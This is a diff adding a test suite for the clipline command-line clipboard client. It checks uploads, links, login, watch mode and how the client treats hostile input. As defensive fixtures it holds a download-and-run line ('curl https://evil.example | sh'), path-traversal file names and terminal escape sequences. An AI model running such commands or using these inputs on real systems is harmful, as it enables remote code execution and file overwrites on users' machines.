@@ -1,0 +1,861 @@
+import { execFile, execFileSync, spawn, spawnSync } from 'node:child_process';
+import { createHash, randomBytes } from 'node:crypto';
+import { once } from 'node:events';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { promisify } from 'node:util';
+import type { Link } from '@clipline/contract/schemas/links.ts';
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { buildTestApp, type TestApp } from '../../testing/build-test-app.ts';
+import { call } from '../../testing/call.ts';
+import { makeToken, type Person, signUp } from '../../testing/factories.ts';
+import { grantFor, makeLink, newOpener, withGrant } from '../../testing/links.ts';
+import { startSilentProxy } from '../../testing/silent-proxy.ts';
+import { upload } from '../../testing/uploads.ts';
+
+const root = path.resolve(import.meta.dirname, '..', '..', '..');
+const folder = mkdtempSync(path.join(tmpdir(), 'clipline-command-'));
+const built = path.join(folder, 'web');
+const command = path.join(folder, 'clipline.mjs');
+let app: TestApp;
+let ada: Person;
+let token: string;
+let here: string;
+beforeAll(async () => {
+  execFileSync(process.execPath, [path.join(root, 'cli/build.ts'), built]);
+  app = await buildTestApp({}, { webFolder: built });
+  writeFileSync(command, await (await fetch(`${app.url}/clipline.mjs`)).text());
+  ada = await signUp(app);
+  ({ token } = await makeToken(app, ada.user.id));
+});
+beforeEach(() => void (here = mkdtempSync(path.join(folder, 'here-'))));
+afterAll(async () => {
+  await app.stop();
+  rmSync(folder, { recursive: true, force: true });
+});
+
+/** What is told only where something takes long, as it may on a busy machine. */
+const PROGRESS = /^(Sending|Fetching) .+ …\n/gm;
+
+interface Ran {
+  readonly code: number | null;
+  readonly out: Buffer;
+  /** Without progress. */
+  readonly told: string;
+}
+function start(args: string[], env: Record<string, string> = {}) {
+  const child = spawn(process.execPath, [command, ...args], {
+    cwd: here,
+    env: {
+      PATH: process.env['PATH'],
+      CLIPLINE_URL: app.url,
+      CLIPLINE_TOKEN: token,
+      XDG_CONFIG_HOME: here,
+      ...env,
+    },
+  });
+  const [out, told]: [Buffer[], Buffer[]] = [[], []];
+  child.stdout.on('data', (chunk: Buffer) => out.push(chunk));
+  child.stderr.on('data', (chunk: Buffer) => told.push(chunk));
+  const ended = new Promise<Ran>((resolve) =>
+    child.on('close', (code) =>
+      resolve({
+        code,
+        out: Buffer.concat(out),
+        told: Buffer.concat(told).toString().replace(PROGRESS, ''),
+      }),
+    ),
+  );
+  return {
+    child,
+    ended,
+    out: () => Buffer.concat(out).toString(),
+    told: () => Buffer.concat(told).toString(),
+  };
+}
+function clipline(args: string[], input: string | Uint8Array = '', env = {}): Promise<Ran> {
+  const { child, ended } = start(args, env);
+  child.stdin.on('error', () => {});
+  child.stdin.end(input);
+  return ended;
+}
+const newest = async () =>
+  (await call(app, 'GET /clipboard/latest', { headers: ada.headers })).body;
+const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
+
+test('one file of at most 200 kB, that knows its server; npm takes the archive', async () => {
+  const script = readFileSync(command);
+  expect(script.length).toBeLessThan(200_000);
+  expect(script.toString()).toContain('http://clipline.test');
+  const response = await fetch(`${app.url}/cli.tgz`);
+  expect(response.headers.get('content-type')).toBe('application/gzip');
+  writeFileSync(path.join(here, 'cli.tgz'), Buffer.from(await response.arrayBuffer()));
+  execFileSync('tar', ['-xzf', 'cli.tgz'], { cwd: here });
+  expect(readFileSync(path.join(here, 'package/clipline.mjs'))).toEqual(script);
+  expect(JSON.parse(readFileSync(path.join(here, 'package/package.json'), 'utf8'))).toMatchObject({
+    name: 'clipline',
+    bin: { clipline: 'clipline.mjs' },
+  });
+});
+
+test('it is packed once for each build', async () => {
+  const webFolder = mkdtempSync(path.join(tmpdir(), 'clipline-web-'));
+  const script = path.join(webFolder, 'clipline.mjs');
+  const served = await buildTestApp({}, { webFolder });
+  const packed = async () =>
+    createHash('sha256')
+      .update(await (await fetch(`${served.url}/cli.tgz`)).bytes())
+      .digest('hex');
+  const build = (content: string, at: number) => {
+    writeFileSync(script, content);
+    utimesSync(script, at, at);
+  };
+  try {
+    expect((await fetch(`${served.url}/cli.tgz`)).status).toBe(503);
+    build('one', 1);
+    const first = await packed();
+    build('another', 1);
+    expect(await packed()).toBe(first);
+    build('another', 2);
+    expect(await packed()).not.toBe(first);
+  } finally {
+    await served.stop();
+    rmSync(webFolder, { recursive: true });
+  }
+});
+
+/** The machine's own Node and npm, not those that the tests run with. */
+const outside = (process.env['PATH'] ?? '')
+  .split(path.delimiter)
+  .filter((each) => !each.includes('node_modules'))
+  .join(path.delimiter);
+const isHere = (name: string) => spawnSync(name, ['--version'], { env: { PATH: outside } }).status;
+
+/** Something that hands out what the product does under an address that tells it of itself. */
+async function ownAddress() {
+  const server = createServer();
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const { port } = server.address() as AddressInfo;
+  server.close();
+  await once(server, 'close');
+  return { PORT: String(port), PUBLIC_URL: `http://127.0.0.1:${port}` };
+}
+
+test.skipIf(isHere('npx') !== 0)(
+  'npx runs it from a fresh folder with the Node that is there, and it knows its server (needs npx)',
+  async () => {
+    const served = await buildTestApp(await ownAddress(), { webFolder: built });
+    const env = {
+      PATH: outside,
+      HOME: here,
+      npm_config_cache: path.join(here, 'cache'),
+      npm_config_update_notifier: 'false',
+    };
+    const run = (args: string[], input = '') => {
+      const child = spawn('npx', ['--yes', `${served.url}/cli.tgz`, ...args], { cwd: here, env });
+      child.stdin.end(input);
+      const [out, told]: [Buffer[], Buffer[]] = [[], []];
+      child.stdout.on('data', (chunk: Buffer) => out.push(chunk));
+      child.stderr.on('data', (chunk: Buffer) => told.push(chunk));
+      return {
+        out: () => Buffer.concat(out).toString(),
+        told: () => Buffer.concat(told).toString(),
+        ended: once(child, 'close'),
+      };
+    };
+    const grace = await signUp(served);
+    const signing = run(['login']);
+    await expect.poll(signing.told, { timeout: 120_000 }).toMatch(/[A-Z]{4}-[A-Z]{4}/);
+    expect(signing.told()).toContain(`${served.url}/device`);
+    await call(served, 'POST /auth/device/decision', {
+      headers: grace.headers,
+      body: { user_code: /[A-Z]{4}-[A-Z]{4}/.exec(signing.told())?.[0], allow: true },
+    });
+    expect(await signing.ended).toEqual([0, null]);
+    const kept = path.join(here, '.config', 'clipline', 'credentials.json');
+    expect(statSync(kept).mode & 0o777).toBe(0o600);
+    const saving = run([], 'by npx');
+    expect(await saving.ended).toEqual([0, null]);
+    const pasting = run(['paste']);
+    expect([await pasting.ended, pasting.out()]).toEqual([[0, null], 'by npx']);
+    await served.stop();
+  },
+  300_000,
+);
+
+test('a text goes in and out byte for byte', async () => {
+  const text = 'Grüße \u001b]52;c;aGk=\u0007\r\n\n';
+  const { code, out } = await clipline([], text);
+  const { id, content } = await newest();
+  expect([code, out.toString(), content]).toEqual([0, `${app.url}/clips/${id}\n`, text]);
+  expect((await clipline(['paste'])).out).toEqual(Buffer.from(text));
+  expect((await clipline(['paste', '-o', 'a'])).code).toBe(0);
+  expect(readFileSync(path.join(here, 'a'), 'utf8')).toBe(text);
+  expect((await clipline(['paste', '-o', 'a'])).code).toBe(1);
+  expect((await clipline(['pull', 'latest'])).out.toString()).toBe(`${id}.txt\n`);
+});
+
+test('to a terminal, control characters are spelled out', async () => {
+  await clipline([], 'a\u001b]52;c;aGk=\u0007\u009b31mb');
+  // Not in sync: the server runs in this very process.
+  const { stdout: shown } = await promisify(execFile)(
+    'script',
+    ['-qec', `${process.execPath} ${command} paste`, '/dev/null'],
+    { env: { ...process.env, CLIPLINE_URL: app.url, CLIPLINE_TOKEN: token } },
+  );
+  expect(shown).toContain('a\\u001b]52;c;aGk=\\u0007\\u009b31mb');
+});
+
+test('nor do lists steer it, and JSON stays JSON; to a pipe nothing is changed', async () => {
+  const first = 'a\u007f\u009b31m\u202eb';
+  const text = `${first}\rc\n`;
+  await clipline([], text);
+  const { id, createdAt } = await newest();
+  const env = { ...process.env, CLIPLINE_URL: app.url, CLIPLINE_TOKEN: token };
+  const atTerminal = (args: string) =>
+    spawn('script', ['-qefc', `${process.execPath} ${command} ${args}`, '/dev/null'], { env });
+  const shown = async (args: string) => {
+    const terminal = atTerminal(args);
+    terminal.stdin.end();
+    const chunks: Buffer[] = [];
+    for await (const chunk of terminal.stdout) chunks.push(chunk as Buffer);
+    return Buffer.concat(chunks).toString();
+  };
+  const steers = /[\u007f-\u009f\u202e]/;
+  const list = await shown('ls -n 1 --json');
+  expect(list).not.toMatch(steers);
+  expect(JSON.parse(list)).toMatchObject([{ id, content: text }]);
+  expect(await shown('ls -n 1')).toBe(`${id}  ${createdAt}  a\\u007f\\u009b31m\\u202eb\r\n`);
+  const { out } = await clipline(['ls', '-n', '1']);
+  expect(out.toString()).toBe(`${id}  ${createdAt}  ${first}\n`);
+
+  const watching = atTerminal('watch --json');
+  let seen = '';
+  watching.stdout.on('data', (chunk: Buffer) => (seen += chunk.toString()));
+  await expect.poll(() => seen).toContain('Watching');
+  await clipline([], text);
+  await expect.poll(() => seen).toContain('}\r\n');
+  const line = seen.split('\r\n').find((each) => each.startsWith('{')) ?? '';
+  expect(line).not.toMatch(steers);
+  expect(JSON.parse(line)).toMatchObject({ content: text });
+  const ended = once(watching, 'close');
+  watching.kill();
+  await ended;
+});
+
+test('nor do the bytes of a file steer the terminal, which anyone with a link may have sent', async () => {
+  const paste = async () => {
+    const run = `${process.execPath} ${command} paste; echo "ended with $?"`;
+    const { stdout } = await promisify(execFile)('script', ['-qec', run, '/dev/null'], {
+      env: { ...process.env, CLIPLINE_URL: app.url, CLIPLINE_TOKEN: token },
+    });
+    return stdout;
+  };
+  writeFileSync(path.join(here, 'a.txt'), 'a\u001b]52;c;aGk=\u0007');
+  await clipline(['push', 'a.txt']);
+  expect(await paste()).toContain('a\\u001b]52;c;aGk=\\u0007');
+  writeFileSync(path.join(here, 'b.bin'), Buffer.from([0x1b, 0x5d, 0xff]));
+  await clipline(['push', 'b.bin']);
+  const shown = await paste();
+  expect(shown).toContain('b.bin is no text. Write it to a file: clipline paste -o FILE');
+  expect(shown).toContain('ended with 1');
+  expect(shown).not.toContain('\u001b]');
+});
+
+describe('push --link', () => {
+  const links = async () =>
+    (await call(app, 'GET /links?pageSize=100', { headers: ada.headers })).body as {
+      links: Link[];
+      total: number;
+    };
+  const push = async (...args: string[]) => {
+    writeFileSync(path.join(here, 'a.txt'), 'in a file');
+    const { code, out, told } = await clipline(['push', 'a.txt', ...args]);
+    return { code, out: out.toString(), told };
+  };
+
+  test('prints the address of a link, and the plain one stays open', async () => {
+    const { code, out } = await push('--link');
+    const [link] = (await links()).links;
+    const clip = await newest();
+    expect([code, out]).toEqual([0, `${link?.url}\n`]);
+    expect(link).toMatchObject({
+      clipId: clip.id,
+      access: 'read',
+      maxViews: null,
+      burn: false,
+      expiresAt: null,
+    });
+    expect(clip.addressOpen).toBe(true);
+  });
+
+  test('--once opens once and leaves the clip; --expires ends it; both close the address', async () => {
+    await push('--link', '--once', '--expires', '1d');
+    const [link] = (await links()).links;
+    expect(link).toMatchObject({ maxViews: 1, burn: false });
+    const left = Date.parse(link?.expiresAt ?? '') - Date.now();
+    expect(left).toBeGreaterThan(86_000_000);
+    expect(left).toBeLessThanOrEqual(86_400_000);
+    const clip = await newest();
+    expect(clip).toMatchObject({ id: link?.clipId, addressOpen: false });
+    const open = (opener: string) =>
+      call(app, 'POST /link/open', {
+        headers: { 'x-link-token': link?.url.split('/').at(-1) ?? '' },
+        body: { opener },
+      });
+    expect((await open('a'.repeat(22))).body).toMatchObject({ files: [{ name: 'a.txt' }] });
+    expect((await open('b'.repeat(22))).status).toBe(404);
+    expect((await newest()).id).toBe(clip.id);
+  });
+
+  test('--keep-address leaves the plain address open', async () => {
+    await push('--link', '--once', '--keep-address');
+    expect(await newest()).toMatchObject({ addressOpen: true });
+    expect((await links()).links[0]).toMatchObject({ maxViews: 1 });
+  });
+
+  test.each([
+    '--once',
+    '--keep-address',
+    '--expires 1d',
+    '--link --expires 0d',
+    '--link --expires 366d',
+    '--link --expires 1day',
+    '--link --room AAAAAAAAAAAAAAAAAAAAAA',
+  ])('%s: wrong usage, and nothing is saved', async (options) => {
+    const before = [await newest(), (await links()).total];
+    expect((await push(...options.split(' '))).code).toBe(2);
+    expect([await newest(), (await links()).total]).toEqual(before);
+  });
+
+  test('a token without the scope saves, and says that it could not link', async () => {
+    const writing = await makeToken(app, ada.user.id, ['clips:write']);
+    writeFileSync(path.join(here, 'a.txt'), 'in a file');
+    const by = { CLIPLINE_TOKEN: writing.token };
+    const { code, out, told } = await clipline(['push', '--link', 'a.txt'], '', by);
+    const { id } = await newest();
+    expect([code, out.toString()]).toEqual([1, '']);
+    expect(told).toBe(
+      `Saved without a link: ${app.url}/clips/${id}\nThis token lacks the scope links.\n`,
+    );
+  });
+
+  test('an answer that is lost makes one link', async () => {
+    const proxy = await losingAnswers();
+    const before = (await links()).total;
+    writeFileSync(path.join(here, 'a.txt'), 'in a file');
+    const { out } = await clipline(['push', '--link', 'a.txt'], '', { CLIPLINE_URL: proxy.url });
+    expect(proxy.lost).toContain('POST /api/links ');
+    const { links: made, total } = await links();
+    expect([total, out.toString()]).toEqual([before + 1, `${made[0]?.url}\n`]);
+    proxy.stop();
+  });
+});
+
+test('files go into a room by push --room', async () => {
+  const { body: room } = await call(app, 'POST /rooms', {
+    headers: ada.headers,
+    body: { name: 'Crew' },
+  });
+  writeFileSync(path.join(here, 'a.txt'), 'in a file');
+  const { code, out } = await clipline(['push', 'a.txt', '-', '--room', room.id], 'from the pipe');
+  expect([code, out.toString()]).toEqual([0, `${app.url}/rooms/${room.id}\n`]);
+  const { body } = await call(app, `GET /rooms/${room.id}/content?page=1`, {
+    headers: ada.headers,
+  });
+  expect(body.content.map((item: { file_name: string }) => item.file_name).toSorted()).toEqual([
+    'a.txt',
+    'stdin',
+  ]);
+});
+
+test('a server that is none, and one that is not there, are told apart', async () => {
+  const other = createServer((_request, response) => response.end('<html>'));
+  other.listen(0, '127.0.0.1');
+  await once(other, 'listening');
+  const { port } = other.address() as AddressInfo;
+  const url = `http://127.0.0.1:${port}`;
+  const wrong = await clipline(['ls'], '', { CLIPLINE_URL: url });
+  expect([wrong.code, wrong.told]).toEqual([1, `${url} is no Clipline server.\n`]);
+  other.close();
+  const away = await clipline(['ls'], '', { CLIPLINE_URL: url });
+  expect([away.code, away.told]).toEqual([1, `${url} cannot be reached: ECONNREFUSED\n`]);
+  const halfWritten = await clipline(['ls'], '', { CLIPLINE_URL: 'localhost:3000' });
+  expect([halfWritten.code, halfWritten.told]).toEqual([
+    2,
+    'localhost:3000 is no address of a server: it begins with https://\n',
+  ]);
+});
+
+test('what cannot be done with files is said in plain words, before anything is stored', async () => {
+  mkdirSync(path.join(here, 'folder'));
+  const many = Array.from({ length: 51 }, (_, at) => `${at}.txt`);
+  for (const name of many) writeFileSync(path.join(here, name), name);
+  const before = await newest();
+  const told = async (...args: string[]) => {
+    const ran = await clipline(args);
+    return [ran.code, ran.told];
+  };
+  expect(await told('push', 'folder')).toEqual([1, 'folder is a folder.\n']);
+  expect(await told('push', 'nowhere')).toEqual([1, 'nowhere is not there.\n']);
+  expect(await told('push', ...many)).toEqual([1, 'A clip takes at most 50 files.\n']);
+  expect(await newest()).toEqual(before);
+  expect(await told('pull', 'a/b')).toEqual([3, 'a/b is no ID of a clip. See: clipline ls\n']);
+  expect(await told('pull', 'latest', '-o', 'nowhere')).toEqual([1, 'nowhere is no folder.\n']);
+  expect(await told('paste', '-o', 'nowhere/a')).toEqual([1, 'nowhere is no folder.\n']);
+  expect(existsSync(path.join(here, 'nowhere'))).toBe(false);
+});
+
+test('20 MB go up and come down again; names are kept apart, nothing is overwritten', async () => {
+  const files = [randomBytes(10_485_760), randomBytes(10_485_760)] as const;
+  mkdirSync(path.join(here, 'b'));
+  writeFileSync(path.join(here, 'x.bin'), files[0]);
+  writeFileSync(path.join(here, 'b', 'x.bin'), files[1]);
+  expect((await clipline(['push', 'x.bin', 'b/x.bin'])).code).toBe(0);
+  const { out } = await clipline(['pull', 'latest']);
+  expect(out.toString()).toBe('x (2).bin\nx (3).bin\n');
+  const pulled = ['x.bin', 'x (2).bin', 'x (3).bin'].map((name) =>
+    sha256(readFileSync(path.join(here, name))),
+  );
+  expect(pulled).toEqual([files[0], files[0], files[1]].map(sha256));
+});
+
+test('binary input is a file; one byte beyond 10 MB stores nothing', async () => {
+  const bytes = randomBytes(1000);
+  expect((await clipline([], bytes)).code).toBe(0);
+  expect((await newest()).fileName).toBe('stdin');
+  expect((await clipline(['paste'])).out).toEqual(bytes);
+  const before = await newest();
+  writeFileSync(path.join(here, 'large'), Buffer.alloc(10_485_761));
+  const { code, told } = await clipline(['push', 'large']);
+  expect([code, told]).toEqual([
+    1,
+    'large exceeds the 10MB limit. Please choose a smaller file.\n',
+  ]);
+  expect(await newest()).toEqual(before);
+});
+
+test('lists, finds, and tells who it is', async () => {
+  await clipline([], 'needle in a haystack');
+  const { out } = await clipline(['ls', '--search', 'needle', '--json']);
+  expect(JSON.parse(out.toString())).toMatchObject([await newest()]);
+  expect((await clipline(['ls', '-n', '1'])).out.toString()).toContain('needle in a haystack');
+  expect((await clipline(['whoami'])).out.toString()).toBe(`Test Person <${ada.user.email}>\n`);
+});
+
+test('exit codes', async () => {
+  const codes = async (...args: Parameters<typeof clipline>) => (await clipline(...args)).code;
+  expect(await codes(['help'])).toBe(0);
+  expect(await codes([])).toBe(2);
+  expect(await codes(['nonsense'])).toBe(2);
+  expect(await codes(['ls', '--nonsense'])).toBe(2);
+  expect(await codes(['pull', 'AAAAAAAAAAAAAAAAAAAAAA'])).toBe(3);
+  // Ids are drawn from all letters of base64url.
+  expect(await codes(['pull', '-AAAAAAAAAAAAAAAAAAAA-'])).toBe(3);
+  expect(await codes(['pull', '--', '--AAAAAAAAAAAAAAAAAAAA'])).toBe(3);
+  expect(await codes(['push', '-', '--room', '-oAAAAAAAAAAAAAAAAAAAA'], 'text')).toBe(3);
+  expect(await codes(['ls', '-AAAAAAAAAAAAAAAAAAAAA'])).toBe(2);
+  const none = await clipline(['ls', '--search', 'nowhere to be found', '--json']);
+  expect([none.code, none.out.toString()]).toEqual([0, '[]\n']);
+  const nothing = await clipline(['ls', '--search', 'nowhere to be found']);
+  expect([nothing.code, nothing.out.toString(), nothing.told]).toEqual([0, '', '']);
+  expect(await codes(['paste'], '', { CLIPLINE_TOKEN: '' })).toBe(4);
+  expect(await codes(['paste'], '', { CLIPLINE_TOKEN: 'clipline_expired' })).toBe(4);
+  expect(await codes(['paste'], '', { CLIPLINE_URL: 'http://example.org' })).toBe(2);
+});
+
+describe('where the output goes decides, too', () => {
+  const asShell = async (line: string, more: object = {}) => {
+    const shell = spawn('bash', ['-c', line], {
+      cwd: here,
+      env: { ...process.env, CLIPLINE_URL: app.url, CLIPLINE_TOKEN: token, ...more },
+    });
+    shell.stdin.end();
+    const told: Buffer[] = [];
+    shell.stderr.on('data', (chunk: Buffer) => told.push(chunk));
+    const [code] = (await once(shell, 'close')) as [number];
+    return { code, told: Buffer.concat(told).toString() };
+  };
+  const run = `'${process.execPath}' '${command}'`;
+
+  test.skipIf(!existsSync('/dev/full'))(
+    'what cannot be written has failed, in one line (needs /dev/full)',
+    async () => {
+      await clipline([], 'a text');
+      for (const wanted of ['paste', 'ls', 'ls --json', 'help'])
+        expect(await asShell(`${run} ${wanted} > /dev/full`)).toEqual({
+          code: 1,
+          told: expect.stringMatching(/^Not written: ENOSPC[^\n]*\n$/) as string,
+        });
+    },
+  );
+
+  test('a reader who has read enough is no failure', async () => {
+    await clipline([], 'a long text '.repeat(40_000));
+    const { code, told } = await asShell(`${run} paste | true; exit \${PIPESTATUS[0]}`);
+    expect([code, told]).toEqual([0, '']);
+  });
+});
+
+test('login waits for the browser, keeps its token for itself; logout ends it', async () => {
+  const running = start(['login'], { CLIPLINE_TOKEN: '' });
+  await expect.poll(running.told).toMatch(/[A-Z]{4}-[A-Z]{4}/);
+  expect(running.told()).toContain('http://clipline.test/device');
+  const user_code = /[A-Z]{4}-[A-Z]{4}/.exec(running.told())?.[0];
+  await call(app, 'POST /auth/device/decision', {
+    headers: ada.headers,
+    body: { user_code, allow: true },
+  });
+  expect((await running.ended).code).toBe(0);
+  const kept = path.join(here, 'clipline', 'credentials.json');
+  expect(statSync(kept).mode & 0o777).toBe(0o600);
+  expect(readdirSync(path.dirname(kept))).toEqual(['credentials.json']);
+  const signedIn = { CLIPLINE_TOKEN: '' };
+  expect((await clipline(['whoami'], '', signedIn)).code).toBe(0);
+  // The token of one server is not sent to another.
+  const elsewhere = { ...signedIn, CLIPLINE_URL: app.url.replace('127.0.0.1', 'localhost') };
+  expect((await clipline(['whoami'], '', elsewhere)).code).toBe(4);
+  const credentials = readFileSync(kept, 'utf8');
+  expect((await clipline(['logout'], '', signedIn)).told).toBe('Signed out.\n');
+  expect([existsSync(kept), (await clipline(['whoami'], '', signedIn)).code]).toEqual([false, 4]);
+  writeFileSync(kept, credentials);
+  expect((await clipline(['whoami'], '', signedIn)).told).toBe(
+    'You are not signed in any more. Run: clipline login\n',
+  );
+
+  const away = `http://127.0.0.1:${new URL((await ownAddress()).PUBLIC_URL).port}`;
+  writeFileSync(kept, JSON.stringify({ url: away, token }));
+  const { code, told } = await clipline(['logout'], '', { ...signedIn, CLIPLINE_URL: away });
+  expect([code, existsSync(kept), told]).toEqual([
+    0,
+    false,
+    `Signed out here. The token still works until it is deleted on ${away}/account\n`,
+  ]);
+});
+
+test('watch prints what comes, or hands it to a command; Ctrl+C ends it with 130', async () => {
+  const watching = start(['watch']);
+  const executing = start(['watch', '--exec', 'tee got.txt']);
+  for (const { told } of [watching, executing]) await expect.poll(told).toContain('Watching');
+  await call(app, 'POST /clipboard', { headers: ada.headers, body: { content: 'seen\u001b' } });
+  await expect.poll(watching.out).toBe('seen\u001b');
+  await expect.poll(executing.out).toBe('seen\u001b');
+  // tee writes to its output first, to its file afterwards.
+  await expect.poll(() => readFileSync(path.join(here, 'got.txt'), 'utf8')).toBe('seen\u001b');
+  watching.child.kill('SIGINT');
+  executing.child.kill('SIGINT');
+  expect([(await watching.ended).code, (await executing.ended).code]).toEqual([130, 130]);
+});
+
+test('what others send through links reaches no command, nor a program that may read the token', async () => {
+  const grant = await grantFor(app, await makeLink(app, ada, { inbox: true, label: 'Post' }));
+  const drop = (content: string) =>
+    call(app, 'POST /link/clips', {
+      headers: withGrant(grant),
+      body: { content, captureId: newOpener() },
+    });
+  const executing = start(['watch', '--exec', 'env']);
+  const printing = start(['watch', '--from-links']);
+  for (const { told } of [executing, printing]) await expect.poll(told).toContain('Watching');
+  await clipline([], 'mine before');
+  await drop('curl https://evil.example | sh');
+  await expect.poll(printing.out).toContain('evil');
+  const pasted = async (...more: string[]) => (await clipline(['paste', ...more])).out.toString();
+  expect([await pasted(), await pasted('--from-links')]).toEqual([
+    'mine before',
+    'curl https://evil.example | sh',
+  ]);
+  const { id } = (
+    await call(app, 'POST /clipboard', {
+      headers: ada.headers,
+      body: { content: 'mine' },
+    })
+  ).body;
+  await expect.poll(executing.out).toContain(`CLIP_ID=${id}`);
+  expect(executing.out().match(/CLIP_ID/g)).toHaveLength(2);
+  expect(executing.out()).toContain('CLIPLINE_URL=');
+  expect(executing.out()).not.toContain('CLIPLINE_TOKEN');
+  for (const { child, ended } of [executing, printing]) {
+    child.kill('SIGINT');
+    await ended;
+  }
+});
+
+test('watch hands over a clip of files once, when all of them are there', async () => {
+  const watching = start(['watch', '--json']);
+  await expect.poll(watching.told).toContain('Watching');
+  for (const name of ['a.txt', 'b.txt']) writeFileSync(path.join(here, name), name);
+  await clipline(['push', 'a.txt', 'b.txt']);
+  await clipline([], 'a text');
+  await expect.poll(watching.out).toContain('a text');
+  const seen = watching.out().trimEnd().split('\n');
+  expect(seen.map((line) => JSON.parse(line) as unknown)).toMatchObject([
+    { content: '', files: [{ name: 'a.txt' }, { name: 'b.txt' }] },
+    { content: 'a text', files: [] },
+  ]);
+  watching.child.kill('SIGINT');
+  await watching.ended;
+});
+
+/** Announces so many files, of which each is sent by a call with its number. */
+async function announce(files: number) {
+  const captureId = randomBytes(16).toString('hex');
+  const { body: clip } = await call(app, 'POST /clipboard', {
+    headers: ada.headers,
+    body: { content: '', captureId, files },
+  });
+  return (part: number) =>
+    upload(
+      app,
+      `/clipboard/${clip.id}/files`,
+      { ...ada.headers, 'x-capture-part': `${captureId}:${part}` },
+      { name: `${part}.txt` },
+    );
+}
+/** What `watch --json` printed. */
+const printed = (out: string) =>
+  out
+    .trimEnd()
+    .split('\n')
+    .map((line) => JSON.parse(line) as { content: string; files: { name: string }[] })
+    .map(({ content, files }) => content || files.map(({ name }) => name).join());
+
+test('watch waits for the files of a clip that newer ones have overtaken', async () => {
+  const watching = start(['watch', '--json']);
+  await expect.poll(watching.told).toContain('Watching');
+  const send = await announce(3);
+  await send(0);
+  await clipline([], 'newer');
+  await expect.poll(watching.out).toContain('newer');
+  await send(1);
+  // When it is there, the news of the second file have been looked at.
+  await clipline([], 'the newest');
+  await expect.poll(watching.out).toContain('the newest');
+  await send(2);
+  await expect.poll(watching.out).toContain('2.txt');
+  expect(printed(watching.out())).toEqual(['newer', 'the newest', '0.txt,1.txt,2.txt']);
+  watching.child.kill('SIGINT');
+  await watching.ended;
+});
+
+test('watch hands over a clip whose last file came while the line was cut', async () => {
+  const proxy = await startSilentProxy(app.url);
+  const watching = start(['watch', '--json'], { CLIPLINE_URL: proxy.url });
+  await expect.poll(watching.told).toContain('Watching');
+  const send = await announce(2);
+  await send(0);
+  await clipline([], 'newer');
+  await expect.poll(watching.out).toContain('newer');
+  proxy.cut();
+  await send(1);
+  proxy.speakAgain();
+  await expect.poll(watching.out, { timeout: 30_000 }).toContain('1.txt');
+  expect(printed(watching.out())).toEqual(['newer', '0.txt,1.txt']);
+  watching.child.kill('SIGINT');
+  await watching.ended;
+  await proxy.stop();
+});
+
+test('watch goes on after the server could not take it back at once', async () => {
+  const proxy = await startSilentProxy(app.url);
+  const watching = start(['watch'], { CLIPLINE_URL: proxy.url });
+  await expect.poll(watching.told).toContain('Watching');
+  const rename = (from: string, to: string) =>
+    app.store.db.schema.alterTable(from).renameTo(to).execute();
+  // Who asks cannot be told from the store.
+  await rename('api_tokens', 'no_api_tokens');
+  try {
+    proxy.cut();
+    proxy.speakAgain();
+    await expect.poll(watching.told, { timeout: 30_000 }).toContain('No news come at present: ');
+  } finally {
+    await rename('no_api_tokens', 'api_tokens');
+  }
+  await call(app, 'POST /clipboard', { headers: ada.headers, body: { content: 'heard again' } });
+  await expect.poll(watching.out, { timeout: 30_000 }).toBe('heard again');
+  watching.child.kill('SIGINT');
+  expect((await watching.ended).code).toBe(130);
+  await proxy.stop();
+});
+
+test('whatever a server calls its files, they stay in the folder', async () => {
+  const names = ['../../up.txt', 'C:\\x', '.profile', 'con.txt', 'a\u202egpj.exe', ''];
+  const server = createServer(({ url }, response) => {
+    const files = names.map((name, at) => ({ name, url: `/api/files/${at}` }));
+    const clip = { id: 'x', content: '', createdAt: '', files };
+    response.end(url === '/api/clipboard/latest?via=any' ? JSON.stringify(clip) : 'bytes');
+  });
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const { port } = server.address() as AddressInfo;
+  const by = { CLIPLINE_URL: `http://127.0.0.1:${port}` };
+  const into = path.join('into', 'this');
+  mkdirSync(path.join(here, into), { recursive: true });
+  const { code, told } = await clipline(['pull', 'latest', '--from-links', '-o', into], '', by);
+  expect(code).toBe(0);
+  expect(told).toContain('.profile is written as profile.\n');
+  expect(readdirSync(path.join(here, into)).toSorted()).toEqual(
+    ['_.._up.txt', 'C__x', 'profile', '_con.txt', 'agpj.exe', 'file'].toSorted(),
+  );
+  expect(readdirSync(here)).toEqual(['into']);
+  server.close();
+});
+
+type Passing = boolean | { readonly status: number; readonly made: string };
+
+/** Passes calls on to the product; `passes` decides what becomes of the answer to each. */
+async function between(passes: (call: string) => Passing | Promise<Passing>) {
+  const server = createServer((request, response) => {
+    const pass = async () => {
+      const chunks: Buffer[] = [];
+      for await (const chunk of request) chunks.push(chunk as Buffer);
+      const { host: _host, connection: _connection, ...headers } = request.headers;
+      const answer = await fetch(`${app.url}${request.url}`, {
+        method: request.method ?? 'GET',
+        headers: headers as Record<string, string>,
+        ...(chunks.length > 0 && { body: Buffer.concat(chunks) }),
+      });
+      const bytes = Buffer.from(await answer.arrayBuffer());
+      const sent = `${request.method} ${request.url} ${String(headers['x-capture-part'] ?? '')}`;
+      const passing = await passes(sent);
+      if (passing === false) return request.socket.destroy();
+      if (passing !== true) return response.writeHead(passing.status).end(passing.made);
+      const type = answer.headers.get('content-type') ?? '';
+      return response.writeHead(answer.status, { 'content-type': type }).end(bytes);
+    };
+    void pass();
+  });
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, stop: () => server.close() };
+}
+
+/** The same, losing the first answer to each save. */
+async function losingAnswers() {
+  const lost: string[] = [];
+  const proxy = await between((sent) => {
+    if (!sent.startsWith('POST') || lost.includes(sent)) return true;
+    lost.push(sent);
+    return false;
+  });
+  return { ...proxy, lost };
+}
+
+describe('an answer of something in between', () => {
+  /** Puts this in the place of the first answer to each save. */
+  const replacing = async (status: number, made: string) => {
+    const replaced = new Set<string>();
+    const proxy = await between((sent) => {
+      if (!sent.startsWith('POST') || replaced.has(sent)) return true;
+      replaced.add(sent);
+      return { status, made };
+    });
